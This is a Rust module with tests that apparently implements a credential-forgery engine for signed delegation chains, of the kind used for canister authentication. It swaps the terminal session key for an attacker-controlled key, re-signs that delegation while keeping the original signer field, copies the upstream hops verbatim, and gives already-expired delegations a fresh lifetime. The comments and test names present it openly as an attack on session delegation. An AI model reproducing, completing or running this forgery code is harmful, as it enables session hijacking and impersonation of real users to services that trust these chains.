//! Forgery and re-signing engine
//!
//! Builds a replacement chain whose terminal delegation names an
//! attacker-controlled session key. Upstream hops are copied verbatim since
//! their signing keys are out of reach; only the terminal delegation is
//! rewritten and re-signed.

use std::sync::Arc;
use std::time::Duration;

use chrono::Utc;
use serde_json::Value;

use crate::crypto::{CryptoProvider, KeyPair};
use crate::delegation::signable::signable_bytes;
use crate::delegation::{self, Delegation, DelegationChain, SignedDelegation};
use crate::error::PipelineError;

/// Expiration policy for forged delegations
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ForgeryConfig {
    /// Upper bound on how far past "now" a forged delegation may live
    pub max_horizon: Duration,

    /// Lifetime granted when the original delegation already expired
    pub default_horizon: Duration,
}

impl Default for ForgeryConfig {
    fn default() -> Self {
        Self {
            max_horizon: Duration::from_secs(8 * 60 * 60),
            default_horizon: Duration::from_secs(30 * 60),
        }
    }
}

/// A re-signed chain
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedChain {
    pub chain: DelegationChain,
    /// Terminal expiration of the input chain (ns)
    pub original_expiration: u64,
    /// Whether the input chain had already expired when forged
    pub original_expired: bool,
}

impl ForgedChain {
    /// DER SPKI of the substituted session key
    pub fn session_key(&self) -> &[u8] {
        self.chain
            .terminal()
            .map(|t| t.delegation.pubkey.as_slice())
            .unwrap_or_default()
    }

    /// Forged terminal expiration (ns)
    pub fn expiration(&self) -> u64 {
        self.chain
            .terminal()
            .map(|t| t.delegation.expiration)
            .unwrap_or_default()
    }

    /// Wire encoding in the same shape as the input chain
    pub fn encode(&self) -> Vec<u8> {
        delegation::encode(&self.chain)
    }

    pub fn to_json_value(&self) -> Value {
        delegation::to_json_value(&self.chain)
    }
}

/// Output of one exchange's forgery, borrowing the store-owned key pair
#[derive(Debug)]
pub struct ForgeryResult<'a> {
    pub forged: ForgedChain,
    pub key: &'a KeyPair,
}

pub struct ForgeryEngine {
    provider: Arc<dyn CryptoProvider>,
    config: ForgeryConfig,
}

impl ForgeryEngine {
    pub fn new(provider: Arc<dyn CryptoProvider>, config: ForgeryConfig) -> Self {
        Self { provider, config }
    }

    pub fn config(&self) -> &ForgeryConfig {
        &self.config
    }

    /// Forge against the current wall clock
    pub fn forge(&self, original: &DelegationChain, key: &KeyPair) -> Result<ForgedChain, PipelineError> {
        self.forge_at(original, key, now_nanos())
    }

    /// Forge with an explicit "now" in nanoseconds since the epoch
    pub fn forge_at(
        &self,
        original: &DelegationChain,
        key: &KeyPair,
        now: u64,
    ) -> Result<ForgedChain, PipelineError> {
        original.validate_integrity()?;

        let (terminal, upstream) = original
            .delegations
            .split_last()
            .ok_or_else(|| PipelineError::ChainIntegrity {
                hop: 0,
                reason: "chain has no delegations".into(),
            })?;

        let original_expiration = terminal.delegation.expiration;
        let original_expired = original_expiration <= now;
        let delegation = Delegation {
            pubkey: key.spki_der(),
            expiration: self.forged_expiration(original_expiration, now),
            targets: terminal.delegation.targets.clone(),
        };

        let signature = self
            .provider
            .sign(key, &signable_bytes(&delegation)?)
            .map_err(PipelineError::from)?;

        let mut delegations = upstream.to_vec();
        delegations.push(SignedDelegation {
            delegation,
            signature,
            signer: terminal.signer.clone(),
        });

        tracing::debug!(
            hops = delegations.len(),
            original_expired,
            targets = terminal.delegation.targets.len(),
            "Forged terminal delegation"
        );

        Ok(ForgedChain {
            chain: DelegationChain {
                public_key: original.public_key.clone(),
                delegations,
                format: original.format,
            },
            original_expiration,
            original_expired,
        })
    }

    /// `min(original, now + max)` while valid, `now + default` once expired
    pub fn forged_expiration(&self, original: u64, now: u64) -> u64 {
        if original > now {
            original.min(now.saturating_add(nanos(self.config.max_horizon)))
        } else {
            now.saturating_add(nanos(self.config.default_horizon))
        }
    }

    /// Check the forged terminal signature against the substituted key
    pub fn verify(&self, forged: &ForgedChain, key: &KeyPair) -> Result<bool, PipelineError> {
        let Some(terminal) = forged.chain.terminal() else {
            return Ok(false);
        };
        self.provider
            .verify(
                key.curve(),
                key.public_key(),
                &signable_bytes(&terminal.delegation)?,
                &terminal.signature,
            )
            .map_err(PipelineError::from)
    }
}

fn nanos(duration: Duration) -> u64 {
    u64::try_from(duration.as_nanos()).unwrap_or(u64::MAX)
}

/// Wall clock in nanoseconds since the Unix epoch
pub fn now_nanos() -> u64 {
    Utc::now()
        .timestamp_nanos_opt()
        .and_then(|n| u64::try_from(n).ok())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::ManagedProvider;
    use crate::delegation::fixtures::{key, signed_chain};
    use crate::delegation::{Principal, WireFormat};
    use proptest::prelude::*;

    const HOUR: u64 = 3_600_000_000_000;
    const NOW: u64 = 1_700_000_000_000_000_000;

    fn engine() -> ForgeryEngine {
        ForgeryEngine::new(Arc::new(ManagedProvider), ForgeryConfig::default())
    }

    fn two_hop_chain(expiration: u64, targets: Vec<Principal>) -> DelegationChain {
        signed_chain(expiration, targets, WireFormat::ChainJson)
    }

    #[test]
    fn test_terminal_key_replaced_and_resigned() {
        let original = two_hop_chain(NOW + HOUR, vec![]);
        let attacker = key();
        let engine = engine();

        let forged = engine.forge_at(&original, &attacker, NOW).unwrap();

        assert_eq!(forged.session_key(), attacker.spki_der().as_slice());
        assert_ne!(forged.session_key(), original.delegations[1].delegation.pubkey.as_slice());
        assert!(engine.verify(&forged, &attacker).unwrap());
        assert!(forged.chain.validate_integrity().is_ok());
    }

    #[test]
    fn test_upstream_hops_pass_through() {
        let original = two_hop_chain(NOW + HOUR, vec![]);
        let forged = engine().forge_at(&original, &key(), NOW).unwrap();

        assert_eq!(forged.chain.public_key, original.public_key);
        assert_eq!(forged.chain.delegations[0], original.delegations[0]);
        assert_eq!(forged.chain.delegations[1].signer, original.delegations[1].signer);
        assert_eq!(forged.chain.format, original.format);
    }

    #[test]
    fn test_targets_preserved() {
        let targets = vec![
            Principal::from_text("rdmx6-jaaaa-aaaaa-aaadq-cai").unwrap(),
            Principal::management_canister(),
        ];
        let original = two_hop_chain(NOW + HOUR, targets.clone());
        let forged = engine().forge_at(&original, &key(), NOW).unwrap();
        assert_eq!(forged.chain.terminal().unwrap().delegation.targets, targets);

        let wildcard = two_hop_chain(NOW + HOUR, vec![]);
        let forged = engine().forge_at(&wildcard, &key(), NOW).unwrap();
        assert!(forged.chain.terminal().unwrap().delegation.targets.is_empty());
    }

    #[test]
    fn test_valid_original_is_capped() {
        let engine = ForgeryEngine::new(
            Arc::new(ManagedProvider),
            ForgeryConfig {
                max_horizon: Duration::from_secs(1800),
                default_horizon: Duration::from_secs(1800),
            },
        );
        let forged = engine.forge_at(&two_hop_chain(NOW + HOUR, vec![]), &key(), NOW).unwrap();
        assert_eq!(forged.expiration(), NOW + HOUR / 2);
        assert!(!forged.original_expired);

        // A shorter original wins over the cap
        let forged = engine.forge_at(&two_hop_chain(NOW + 10, vec![]), &key(), NOW).unwrap();
        assert_eq!(forged.expiration(), NOW + 10);
    }

    #[test]
    fn test_expired_original_gets_default_horizon() {
        let engine = engine();
        let forged = engine.forge_at(&two_hop_chain(NOW - HOUR, vec![]), &key(), NOW).unwrap();

        assert!(forged.original_expired);
        assert_eq!(forged.original_expiration, NOW - HOUR);
        assert_eq!(forged.expiration(), NOW + HOUR / 2);
    }

    #[test]
    fn test_broken_linkage_is_not_repaired() {
        let mut original = two_hop_chain(NOW + HOUR, vec![]);
        original.delegations[1].signer = Some(key().spki_der());

        let err = engine().forge_at(&original, &key(), NOW).unwrap_err();
        assert!(matches!(err, PipelineError::ChainIntegrity { hop: 1, .. }));
    }

    #[test]
    fn test_empty_chain_is_rejected() {
        let original = DelegationChain {
            public_key: key().spki_der(),
            delegations: vec![],
            format: WireFormat::ChainJson,
        };
        assert!(matches!(
            engine().forge_at(&original, &key(), NOW),
            Err(PipelineError::ChainIntegrity { hop: 0, .. })
        ));
    }

    #[test]
    fn test_forged_chain_reparses() {
        let original = two_hop_chain(NOW + HOUR, vec![Principal::anonymous()]);
        let forged = engine().forge_at(&original, &key(), NOW).unwrap();
        assert_eq!(delegation::parse(&forged.encode()).unwrap(), forged.chain);
    }

    proptest! {
        #[test]
        fn prop_expiration_within_horizon(
            offset in -(48 * HOUR as i128)..(48 * HOUR as i128),
            max_secs in 1u64..86_400,
            default_frac in 1u64..=100,
        ) {
            let default_secs = (max_secs * default_frac / 100).max(1);
            let engine = ForgeryEngine::new(
                Arc::new(ManagedProvider),
                ForgeryConfig {
                    max_horizon: Duration::from_secs(max_secs),
                    default_horizon: Duration::from_secs(default_secs),
                },
            );
            let original = (NOW as i128 + offset) as u64;
            let expiration = engine.forged_expiration(original, NOW);

            prop_assert!(expiration > NOW);
            prop_assert!(expiration <= NOW + max_secs * 1_000_000_000);
        }
    }
}
